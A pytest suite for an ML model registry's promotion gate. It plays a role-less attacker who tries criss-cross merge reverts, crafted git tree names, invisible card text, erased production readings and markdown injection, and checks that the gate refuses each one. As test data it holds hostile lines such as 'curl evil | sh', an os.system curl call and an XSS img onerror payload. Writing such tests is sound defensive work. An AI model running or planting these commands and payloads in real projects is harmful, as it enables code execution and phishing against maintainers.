"""The gate's promise, played as an attacker with a role-less login would try to break it: what
is judged is exactly what lands."""

from __future__ import annotations

import json
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from steward.aftermerge.history import model_history
from steward.entries import layout
from steward.entries.card_sections import is_filled
from steward.gate.evaluate import RuleResult, Verdict
from steward.gate.judge import run_gate
from steward.gate.promotion import GateFailed, merge_proposal, propose_promotion
from steward.gate.report import render_markdown
from steward.gitio.gitcmd import commit_blobs, head_commit, merge_tree
from steward.governance.audit import audit
from steward.governance.modelcard import model_card
from steward.governance.modelcard_render import render_card
from steward.reading.registry import check_registry
from tests.builders import new_registry, run_git
from tests.promotion_setup import POLICY, PromotionRepo, make_promotion_repo

V1 = layout.version_path("fraud", "0.1.0")
V2 = layout.version_path("fraud", "0.2.0")


@pytest.fixture
def pr(tmp_path: Path) -> PromotionRepo:
    return make_promotion_repo(tmp_path)


def _git_input(root: Path, text: str, *args: str) -> str:
    result = subprocess.run(
        ["git", "-C", str(root), *args], input=text, capture_output=True, text=True, check=True
    )
    return result.stdout.strip()


def _show(root: Path, rev: str, path: str) -> str:
    return run_git(root, "show", f"{rev}:{path}")


def _at(monkeypatch: pytest.MonkeyPatch, day: int) -> None:
    """Commits made from now on carry this date: git's merge-base prefers the newer ancestor."""
    stamp = f"2026-11-{day:02d}T10:00:00Z"
    monkeypatch.setenv("GIT_COMMITTER_DATE", stamp)
    monkeypatch.setenv("GIT_AUTHOR_DATE", stamp)


def _commit_tree(root: Path, tree: str, parents: list[str], message: str) -> str:
    args = [arg for parent in parents for arg in ("-p", parent)]
    return run_git(root, "commit-tree", tree, *args, "-m", message).strip()


def test_a_criss_cross_head_cannot_land_a_revert_its_own_diff_hides(
    pr: PromotionRepo, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Main archives 0.1.0, puts 0.2.0 in production and tightens the policy (all approved);
    a README-only branch from before that merges too. A role-less login then proposes a merge
    of that old branch with main whose tree is the old branch's plus a README line: its diff
    from `git merge-base` shows the README line only, but git's merge (from a virtual base of
    both best common ancestors) lands the old stages and the old policy."""
    root = pr.root
    _at(monkeypatch, 21)
    before = head_commit(root)
    production = _show(root, before, V1).replace("stage: development", "stage: production")
    m0 = commit_blobs(root, before, {V1: production.encode()}, "0.1.0 in production", "main", True)
    approved = {
        V1: production.replace("stage: production", "stage: archived").encode(),
        V2: _show(root, m0, V2).replace("stage: development", "stage: production").encode(),
        layout.POLICY_FILE: _show(root, m0, layout.POLICY_FILE)
        .replace("{role: ml-engineer, count: 1}]\n", "{role: ml-engineer, count: 2}]\n", 1)
        .encode(),
    }
    m1 = commit_blobs(root, m0, approved, "0.2.0 in production; stricter staging", "main", True)
    _at(monkeypatch, 22)
    x1 = commit_blobs(root, m0, {"README.md": b"# Registry\n\nNotes.\n"}, "README", "notes")
    _at(monkeypatch, 23)
    merged_notes = merge_tree(root, m1, x1)
    assert merged_notes is not None
    base = _commit_tree(root, merged_notes, [m1, x1], "Merge notes")
    run_git(root, "update-ref", "refs/heads/main", base, m1)

    _at(monkeypatch, 24)
    readme = _git_input(root, "# Registry\n\nMore notes.\n", "hash-object", "-w", "--stdin")
    head_tree = _replace_blob(root, x1, "README.md", readme)
    head = _commit_tree(root, head_tree, [x1, m1], "Merge main into notes")
    run_git(root, "update-ref", "refs/heads/more-notes", head)
    number = pr.forge.create_proposal("More notes", "", "more-notes", "main", "mallory").number

    # The attack's preconditions: the one merge base git names is the old branch, whose diff to
    # the head is the README line only; yet the merge lands 0.1.0 back in production.
    assert run_git(root, "merge-base", base, head).strip() == x1
    assert run_git(root, "diff", "--name-only", x1, head).split() == ["README.md"]
    lands = merge_tree(root, base, head)
    assert lands is not None
    assert "stage: production" in _show(root, lands, V1)
    assert "count: 2" not in _show(root, lands, layout.POLICY_FILE)

    verdict = run_gate(root, "", "", forge=pr.forge, proposal_number=number).verdict
    assert not verdict.passed
    assert verdict.tree == lands
    assert verdict.head == head and verdict.base == base
    failed = {rule.rule: rule for rule in verdict.failed_rules}
    transitions = failed["transitions allowed"].details
    assert any("fraud 0.1.0 archived -> production" in line for line in transitions), transitions
    assert "policies/registry.yaml" in failed["governance"].reason
    with pytest.raises(GateFailed):
        merge_proposal(root, pr.forge, number, "mallory")
    assert run_git(root, "rev-parse", "main").strip() == base


def _replace_blob(root: Path, commit: str, path: str, blob: str) -> str:
    """The tree of `commit` with the file at `path` (top level) holding `blob`."""
    listing = run_git(root, "ls-tree", commit)
    lines = [
        line if not line.endswith(f"\t{path}") else f"100644 blob {blob}\t{path}"
        for line in listing.splitlines()
    ]
    return _git_input(root, "\n".join(lines) + "\n", "mktree")


# --- 2. outside registry/, everything is governed unless the base policy says otherwise -------

HOOKED = POLICY.replace(
    "governance:\n",
    "hooks:\n"
    "  - {name: rollout, on: [production], run: [python3, deploy/rollout.py]}\n"
    "governance:\n"
    "  ungoverned: [README.md, docs/]\n",
)


def _on_main(pr: PromotionRepo, files: dict[str, str], message: str) -> str:
    """Commit `files` straight to main (what earlier approved merges left there)."""
    tip = head_commit(pr.root)
    encoded = {path: text.encode() for path, text in files.items()}
    return commit_blobs(pr.root, tip, encoded, message, "main", existing=True)


def _propose(pr: PromotionRepo, files: dict[str, str], name: str, author: str = "mallory") -> int:
    tip = run_git(pr.root, "rev-parse", "main").strip()
    commit_blobs(pr.root, tip, {p: t.encode() for p, t in files.items()}, name, name)
    return pr.forge.create_proposal(name, "", name, "main", author).number


def _verdict(pr: PromotionRepo, number: int) -> Verdict:
    return run_gate(pr.root, "", "", forge=pr.forge, proposal_number=number).verdict


def _rule(verdict: Verdict, name: str) -> RuleResult:
    return next(rule for rule in verdict.rules if rule.rule == name)


@pytest.fixture
def hooked(tmp_path: Path) -> PromotionRepo:
    pr = make_promotion_repo(tmp_path, HOOKED)
    _on_main(
        pr,
        {
            ".gitattributes": "*.pkl binary\n",
            "deploy/rollout.py": "import helpers\nhelpers.roll_out()\n",
            "deploy/helpers.py": "def roll_out():\n    print('rolling out')\n",
            "README.md": "# Registry\n",
        },
        "deployment code and attributes, approved",
    )
    return pr


@pytest.mark.parametrize(
    ("path", "text"),
    [
        (".gitattributes", "registry/** working-tree-encoding=UTF-16LE\n"),
        ("deploy/helpers.py", "import os\ndef roll_out():\n    os.system('curl evil')\n"),
        ("Makefile", "all:\n\tcurl evil | sh\n"),
        (".gitignore", "registry/\n"),
    ],
)
def test_a_file_outside_registry_needs_governance_unless_left_ungoverned(
    hooked: PromotionRepo, path: str, text: str
) -> None:
    """Edited or added, a path outside registry/ is the judge's by default: the encoding of
    every checkout, the module a hook imports, a new build file."""
    number = _propose(hooked, {path: text}, "innocent")
    verdict = _verdict(hooked, number)
    assert not verdict.passed
    governance = _rule(verdict, "governance")
    assert governance.status == "failed" and path in governance.details
    assert _rule(verdict, "entries valid").status == "not applicable"


def test_an_ungoverned_path_changes_without_approvals(hooked: PromotionRepo) -> None:
    number = _propose(hooked, {"README.md": "# Registry\n\nMore.\n", "docs/a.md": "A\n"}, "docs")
    verdict = _verdict(hooked, number)
    assert verdict.passed, [(r.rule, r.reason) for r in verdict.failed_rules]
    assert _rule(verdict, "governance").status == "not applicable"


def test_a_new_file_outside_registry_merges_with_the_governance_approval(
    hooked: PromotionRepo,
) -> None:
    """Added is judged as edited: governance's approval lets it in (it used to fail as an
    unexpected registry file, approved or not)."""
    number = _propose(hooked, {"deploy/canary.py": "print('canary')\n"}, "canary", "carol")
    hooked.forge.add_review(number, "erin", "APPROVED")
    verdict = _verdict(hooked, number)
    assert verdict.passed, [(r.rule, r.reason, r.details) for r in verdict.failed_rules]
    assert _rule(verdict, "governance").details == ("deploy/canary.py",)


@pytest.mark.parametrize(
    ("entry", "message"),
    [
        (".gitattributes", "would leave .gitattributes ungoverned: Steward governs it always"),
        ("policies/", "would leave policies/ ungoverned"),
        (".github/workflows/", "would leave .github/ ungoverned"),
        ("deploy/", "would leave deploy/rollout.py ungoverned: hook code is the judge's"),
        ("deploy/notes/", "would leave deploy/ ungoverned: hook code is the judge's"),
        ("registry/models/", "registry/ is judged by its own rules"),
        ("../outside", "is not a relative path"),
        ("/etc/", "is not a relative path"),
        ("docs/*.md", "letters, digits, '.', '_', '-' and '/' only"),
    ],
)
def test_check_refuses_an_ungoverned_entry_that_would_free_the_judge(
    tmp_path: Path, entry: str, message: str
) -> None:
    policy = HOOKED.replace("ungoverned: [README.md, docs/]", f"ungoverned: [README.md, '{entry}']")
    root = new_registry(tmp_path / "reg", policy)
    rendered = [p.render() for p in check_registry(root).problems]
    assert any("governance.ungoverned[1]" in line and message in line for line in rendered), (
        rendered
    )


# --- 3. hooks run the merged commit's code, never the work tree's ------------------------------

ROLLOUT = "import os, sys\nopen(sys.argv[1], 'a').write({said!r} + ' ' + os.getcwd() + '\\n')\n"


def _hooked_repo(tmp_path: Path) -> tuple[PromotionRepo, Path]:
    log = tmp_path / "rollouts.log"
    hook = (
        "hooks:\n"
        f"  - {{name: rollout, on: [staging], run: [{sys.executable}, deploy/rollout.py, {log}]}}\n"
    )
    pr = make_promotion_repo(tmp_path, POLICY.replace("governance:\n", hook + "governance:\n"))
    (pr.root / "deploy").mkdir()
    (pr.root / "deploy/rollout.py").write_text(ROLLOUT.format(said="merged"))
    run_git(pr.root, "add", "deploy/rollout.py")
    run_git(pr.root, "commit", "-qm", "The rollout hook, approved")
    return pr, log


def _propose_staging(pr: PromotionRepo) -> int:
    number = propose_promotion(pr.root, pr.forge, "fraud", "0.2.0", "staging", "dave")
    pr.forge.add_review(number.proposal.number, "carol", "APPROVED")
    return number.proposal.number


def test_a_hook_runs_the_merged_code_not_the_branch_checked_out(tmp_path: Path) -> None:
    """Whoever's branch is checked out where `steward merge` runs does not choose the code that
    deploys: the hook runs from a clean checkout of the merged commit."""
    pr, log = _hooked_repo(tmp_path)
    number = _propose_staging(pr)
    run_git(pr.root, "checkout", "-qb", "mallory")
    (pr.root / "deploy/rollout.py").write_text(ROLLOUT.format(said="mallory"))
    run_git(pr.root, "commit", "-qam", "my own rollout")
    merge_proposal(pr.root, pr.forge, number, "dave")
    said, cwd = log.read_text().split()
    assert said == "merged"
    assert Path(cwd) != pr.root and not Path(cwd).exists()  # a checkout of its own, cleaned up


def test_a_hook_ignores_uncommitted_edits_in_the_work_tree(tmp_path: Path) -> None:
    pr, log = _hooked_repo(tmp_path)
    number = _propose_staging(pr)
    (pr.root / "deploy/rollout.py").write_text(ROLLOUT.format(said="uncommitted"))
    merge_proposal(pr.root, pr.forge, number, "dave")
    assert log.read_text().split()[0] == "merged"
    assert "uncommitted" in (pr.root / "deploy/rollout.py").read_text()  # left as it was


# --- 4. the record names only the approvals that counted, with their roles ---------------------

THREE_ENGINEERS = POLICY.replace("ml-engineer: [carol, dave]", "ml-engineer: [carol, dave, grace]")


def test_the_record_names_only_approvals_that_counted_with_their_role(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """dave proposes and approves his own proposal, zed (who holds no role) approves, carol
    approves: only carol's approval counted, as ml-engineer. The merge trailer, the GTO tag's
    record, history, the card and the audit say so; the others are 'not counted'."""
    from steward.cli.main import run

    pr = make_promotion_repo(tmp_path)
    number = propose_promotion(pr.root, pr.forge, "fraud", "0.2.0", "staging", "dave")
    number_ = number.proposal.number
    root = ["-C", str(pr.root)]
    for login in ("dave", "zed", "carol"):
        assert run([*root, "review", str(number_), "--approve", "--as", login]) == 0
    said = capsys.readouterr().out.splitlines()
    assert said == [
        "dave approved proposal #1: the approval cannot count: author",
        "zed approved proposal #1: the approval cannot count: no role in what this change needs",
        "carol approved proposal #1: the approval counts as ml-engineer",
    ]
    verdict = _verdict(pr, number_)
    assert verdict.approvers == ("carol",)
    assert verdict.not_counted == (
        ("dave", "author"),
        ("zed", "no role in what this change needs"),
    )
    merged = merge_proposal(pr.root, pr.forge, number_, "dave")
    message = run_git(pr.root, "log", "-1", "--format=%B", merged.commit)
    assert "Steward-Approved-By: carol (ml-engineer)\n" in message
    tag = run_git(pr.root, "tag", "-l", "--format=%(contents)", "fraud#staging#*")
    assert '"approvals": ["carol (ml-engineer)"]' in tag and '"approved_by": ["carol"]' in tag
    history = model_history(pr.root, "fraud")
    entered = next(e for e in history.events if e.summary == "entered staging")
    assert (entered.approved_by, entered.approvals) == (("carol",), ("carol (ml-engineer)",))
    card = render_card(model_card(pr.root, "fraud", "0.2.0"))
    assert "`carol (ml-engineer)`" in card and "zed" not in card
    audited = audit(pr.root).as_dict()
    assert "zed" not in json.dumps(audited)


# --- 5. an outstanding request for changes blocks ---------------------------------------------


def test_a_change_request_from_a_role_holder_blocks_until_approved_or_dismissed(
    tmp_path: Path,
) -> None:
    pr = make_promotion_repo(tmp_path, THREE_ENGINEERS)
    number = propose_promotion(
        pr.root, pr.forge, "fraud", "0.2.0", "staging", "dave"
    ).proposal.number
    pr.forge.add_review(number, "grace", "APPROVED")
    pr.forge.add_review(number, "zed", "CHANGES_REQUESTED")  # no role: does not block
    assert _verdict(pr, number).passed
    pr.forge.add_review(number, "carol", "CHANGES_REQUESTED")
    verdict = _verdict(pr, number)
    assert not verdict.passed and verdict.blocked_by == ("carol",)
    rule = _rule(verdict, "approvals: fraud 0.2.0 development -> staging")
    assert "ml-engineer: changes requested by carol" in rule.reason
    with pytest.raises(GateFailed, match="changes requested by carol"):
        merge_proposal(pr.root, pr.forge, number, "dave")
    pr.forge.dismiss_review(number, "carol", "erin")
    assert _verdict(pr, number).passed
    pr.forge.add_review(number, "carol", "CHANGES_REQUESTED")
    assert not _verdict(pr, number).passed
    pr.forge.add_review(number, "carol", "APPROVED")
    verdict = _verdict(pr, number)
    assert verdict.passed and verdict.approvers == ("carol", "grace")


# --- 7. crafted tree entry names fail closed, at once -----------------------------------------


def _with_entry(root: Path, tree: str, path: list[str], entry: str) -> str:
    """`tree` with the line `entry` (mktree format) added in the subtree at `path`."""
    lines = run_git(root, "ls-tree", tree).splitlines()
    if not path:
        return _git_input(root, "\n".join([*lines, entry]) + "\n", "mktree")
    rebuilt = []
    for line in lines:
        meta, name = line.split("\t", 1)
        if name == path[0]:
            sub = _with_entry(root, meta.split()[2], path[1:], entry)
            line = f"040000 tree {sub}\t{name}"
        rebuilt.append(line)
    return _git_input(root, "\n".join(rebuilt) + "\n", "mktree")


@pytest.mark.parametrize("name", ["..", ".", ".git", ".GIT", ""])
def test_a_tree_entry_no_checkout_could_hold_fails_the_gate_at_once(
    pr: PromotionRepo, name: str
) -> None:
    """A role-less login pushes a head whose registry/models holds an entry named `..` (which
    made the gate walk in circles forever), `.`, `.git` or nothing: refused, quickly, naming it."""
    root = pr.root
    base = head_commit(root)
    registry = run_git(root, "rev-parse", f"{base}:registry").strip()
    tree = _with_entry(
        root, f"{base}^{{tree}}", ["registry", "models"], f"040000 tree {registry}\t{name}"
    )
    head = _commit_tree(root, tree, [base], "crafted")
    result = subprocess.run(
        ["steward", "-C", str(root), "gate", "--base", base, "--head", head, "--author", "mallory"],
        capture_output=True,
        text=True,
        timeout=120,  # the bound: it used to never return
    )
    assert result.returncode == 1, result.stderr
    # git itself refuses to diff an empty entry name; the other names reach Steward's check.
    said = result.stdout if name else result.stderr
    assert ("no checkout could hold it" if name else "empty filename in tree entry") in said


INVISIBLE = ["\u2800", "\u3164", "\u200b", "\u00a0", "\u3000", "\u115f\u1160", "\ufeff\u200d"]


@pytest.mark.parametrize("blank", INVISIBLE)
def test_a_card_section_of_invisible_characters_is_not_filled(blank: str) -> None:
    assert not is_filled(blank * 40)
    assert not is_filled(f"TODO{blank}")  # a placeholder with a hidden tail is still one
    assert is_filled(f"Rank card authorisations{blank}by risk.")


def test_the_gate_does_not_take_an_invisible_intended_use(pr: PromotionRepo) -> None:
    path = layout.model_path("fraud")
    text = (pr.root / path).read_text()
    assert "intended_use: Rank card authorisations by fraud risk." in text
    blank = text.replace(
        "intended_use: Rank card authorisations by fraud risk.", 'intended_use: "\\u2800\\u3164"'
    )
    _on_main(pr, {path: blank}, "an intended use nobody can read")
    run_git(pr.root, "checkout", "-q", "--", ".")
    number = propose_promotion(
        pr.root, pr.forge, "fraud", "0.2.0", "staging", "dave"
    ).proposal.number
    pr.forge.add_review(number, "carol", "APPROVED")
    verdict = _verdict(pr, number)
    gates = next(rule for rule in verdict.rules if rule.rule.startswith("gates: fraud 0.2.0"))
    assert not verdict.passed and "model card: intended_use is empty" in gates.reason


def test_an_empty_stage_is_compared_with_its_last_holder(pr: PromotionRepo) -> None:
    """0.2.0 (auc 0.93) held production and was archived (an approved change of its own); the
    stage is empty. Promoting 0.1.0 (auc 0.90) must still meet max_regression 0.01 against
    0.2.0, or archiving first would be the way around every regression gate."""
    v1, v2 = (_show(pr.root, "main", path) for path in (V1, V2))
    _on_main(pr, {V2: v2.replace("stage: development", "stage: production")}, "0.2.0 serves")
    _on_main(pr, {V2: v2.replace("stage: development", "stage: archived")}, "0.2.0 retires")
    _on_main(pr, {V1: v1.replace("stage: development", "stage: staging")}, "0.1.0 staged")
    run_git(pr.root, "checkout", "-q", "--", ".")
    number = propose_promotion(
        pr.root, pr.forge, "fraud", "0.1.0", "production", "dave"
    ).proposal.number
    pr.forge.add_review(number, "carol", "APPROVED")
    pr.forge.add_review(number, "erin", "APPROVED")
    verdict = _verdict(pr, number)
    gates = next(rule for rule in verdict.rules if rule.rule.startswith("gates: fraud 0.1.0"))
    assert gates.status == "failed", gates
    assert "worse than 0.93 of the last production version 0.2.0" in gates.reason
    assert [(d.metric, d.holder) for d in verdict.deltas] == [("auc", "0.2.0")]


# --- Markdown: registry text never becomes structure ------------------------------------------

HOSTILE = (
    "[Approve now](https://evil.example) <img src=x onerror=alert(1)> @octocat "
    "![pixel](https://evil.example/p.png) <https://evil.example> www.evil.example/approve"
)


def _html(markdown: str) -> str:
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable("table").render(markdown)


def test_a_hostile_path_is_text_in_the_gate_comment(pr: PromotionRepo) -> None:
    """A file named like a link (git refuses '//' in a path; a link needs none), in the
    verdict a reviewer reads on the pull request."""
    name = ".github/[Approve now](https:evil.example) <img src=x>"
    assert "<a " in _html(name)  # written as-is it would be a link
    number = _propose(pr, {name: "x\n"}, "link")
    verdict = _verdict(pr, number)
    html = _html(render_markdown(verdict, number))
    assert "<a " not in html and "<img" not in html
    assert ".github/[Approve now](https:evil.example) &lt;img src=x&gt;" in html  # as text


def test_card_text_is_text_in_the_proposal_body(pr: PromotionRepo) -> None:
    """Card sections, written by whoever edits model.yaml, in the body reviewers approve on:
    no link, image, raw HTML, heading or @mention."""
    path = layout.model_path("fraud")
    text = (
        (pr.root / path)
        .read_text()
        .replace(
            "intended_use: Rank card authorisations by fraud risk.",
            f"intended_use: '{HOSTILE}'\n  limitations: \"# Approved\\n\\n---\\n| a |\"",
        )
    )
    _on_main(pr, {path: text}, "hostile card")
    run_git(pr.root, "checkout", "-q", "--", ".")
    promotion = propose_promotion(pr.root, pr.forge, "fraud", "0.2.0", "staging", "dave")
    body = promotion.proposal.body
    html = _html(body)
    assert "<a " not in html and "<img" not in html and "<h1>" not in html, html
    assert "<hr" not in html
    # As text, with a zero-width space after `@` and `://` so that GitHub neither notifies
    # octocat nor links the bare URL (as GitHub's own bots write mentions they do not mean).
    assert "@\u200boctocat" in body and "@octocat" not in body
    assert "https://\u200bevil.example" in body and "https://evil" not in body


# --- 6. evidence is append-only ------------------------------------------------------------------

READINGS = """production_metrics:
- at: 2026-11-21T10:00:00Z
  metrics: {auc: 0.9}
- at: 2026-11-22T10:00:00Z
  metrics: {auc: 0.7}
  breaches: [auc 0.7 is below 0.85]
"""
NEXT = "- at: 2026-11-23T10:00:00Z\n  metrics: {auc: 0.91}\n"
FRESH = "- at: 2026-11-24T10:00:00Z\n  metrics: {auc: 0.92}\n"


def _readings_repo(tmp_path: Path, keep: int) -> PromotionRepo:
    """0.2.0 in production with two readings, the first a breach (monitoring keeps `keep`)."""
    monitoring = f"monitoring:\n  keep: {keep}\n  thresholds: {{auc: {{min: 0.85}}}}\n"
    pr = make_promotion_repo(tmp_path, POLICY + monitoring)
    v2 = _show(pr.root, "main", V2).replace("stage: development", "stage: production")
    _on_main(pr, {V2: v2 + READINGS}, "0.2.0 serves, and was watched")
    run_git(pr.root, "checkout", "-q", "--", ".")
    return pr


OLDEST = READINGS.split("- at: 2026-11-22")[0]  # the header and the oldest reading, fine
BREACH = "- at: 2026-11-22" + READINGS.split("- at: 2026-11-22")[1]


def _erase_all(text: str) -> str:
    return text.split("production_metrics:")[0]


def _erase_breach(text: str) -> str:
    return text.replace(BREACH, "")


def _edit_breach(text: str) -> str:
    return text.replace("auc: 0.7}", "auc: 0.95}")


def _append(text: str) -> str:
    return text + NEXT


def _drop_oldest_and_append(text: str) -> str:
    return text.replace(OLDEST, "production_metrics:\n") + NEXT


def _flush_with_new_readings(text: str) -> str:
    return _erase_all(text) + "production_metrics:\n" + NEXT + FRESH


@pytest.mark.parametrize(
    ("edit", "keep", "governed"),
    [
        (_erase_all, 100, True),
        (_erase_breach, 100, True),
        (_edit_breach, 100, True),
        (_append, 100, False),
        (_drop_oldest_and_append, 2, False),  # what `steward monitor` does with keep: 2
        (_drop_oldest_and_append, 3, True),  # ... and would not do with keep: 3
        (_flush_with_new_readings, 2, True),  # the breach dropped, two readings made up
    ],
)
def test_past_production_readings_change_only_with_governance(
    tmp_path: Path, edit: Callable[[str], str], keep: int, governed: bool
) -> None:
    """The owner may append readings (as `steward monitor` does, dropping the oldest beyond the
    policy's `keep`); erasing, editing or dropping any other past reading needs governance."""
    pr = _readings_repo(tmp_path, keep)
    number = _propose(pr, {V2: edit(_show(pr.root, "main", V2))}, "readings", author="carol")
    verdict = _verdict(pr, number)
    governance = _rule(verdict, "governance")
    if governed:
        assert governance.status == "failed", governance
        assert "fraud@0.2.0: production_metrics" in governance.reason
        pr.forge.add_review(number, "erin", "APPROVED")
        assert _rule(_verdict(pr, number), "governance").status == "passed"
    else:
        assert governance.status == "not applicable", governance
        assert verdict.passed, [(r.rule, r.reason) for r in verdict.failed_rules]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("registry/models/fraud/.gitignore", "/0.1.0\n/0.2.0\n*.yaml\n*.dvc\n"),
        ("registry/.gitignore", "models/\n"),
        ("registry/datasets/.gitignore", "# nothing to hide\n*\n"),
    ],
)
def test_a_gitignore_in_the_registry_may_hide_only_version_data(
    pr: PromotionRepo, path: str, text: str
) -> None:
    """Ignore files are the judge's outside registry/; inside it, a model's .gitignore holds
    the version data directories registration writes, and nothing else passes."""
    number = _propose(pr, {path: text}, "hide")
    verdict = _verdict(pr, number)
    valid = _rule(verdict, "entries valid")
    assert not verdict.passed and valid.status == "failed", valid
    assert any(path in line and "a .gitignore here may ignore" in line for line in valid.details)


@pytest.mark.parametrize(
    ("run", "entry"),
    [
        ("[python3, rollout.py]", "rollout.py"),
        ("[python3, -m, deploy.rollout]", "deploy/"),
        ("[sh, -c, 'python3 deploy/rollout.py']", "deploy/"),
        ("[make, deploy]", "Makefile"),
        ("[python3, deploy/rollout.py]", "Deploy/"),
        ("[python3, deploy/rollout.py]", ".GITATTRIBUTES"),
    ],
)
def test_check_finds_hook_code_however_the_command_names_it(
    tmp_path: Path, run: str, entry: str
) -> None:
    policy = POLICY.replace(
        "governance:\n",
        f"hooks:\n  - {{name: roll, on: [production], run: {run}}}\n"
        f"governance:\n  ungoverned: ['{entry}']\n",
    )
    root = new_registry(tmp_path / "reg", policy)
    rendered = [p.render() for p in check_registry(root).problems]
    assert any("governance.ungoverned[0]" in line and "ungoverned" in line for line in rendered), (
        rendered
    )
